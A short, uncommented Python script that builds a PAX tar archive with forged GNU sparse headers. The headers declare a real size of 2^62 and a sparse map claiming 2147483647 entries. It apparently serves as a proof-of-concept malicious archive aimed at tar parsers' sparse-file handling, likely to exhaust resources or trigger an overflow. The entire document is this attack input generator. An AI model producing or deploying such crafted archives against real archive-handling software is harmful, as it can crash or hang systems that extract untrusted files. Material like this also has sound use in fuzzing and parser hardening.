import io, tarfile
out = tarfile.open("a.tar", "w", format=tarfile.PAX_FORMAT)
i = tarfile.TarInfo("f"); i.size = 1024
i.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "f", "GNU.sparse.realsize": str(1 << 62)}
out.addfile(i, io.BytesIO((b"2147483647\n" + b"0\n1\n" * 200)[:1024].ljust(1024, b"\0")))
out.close()
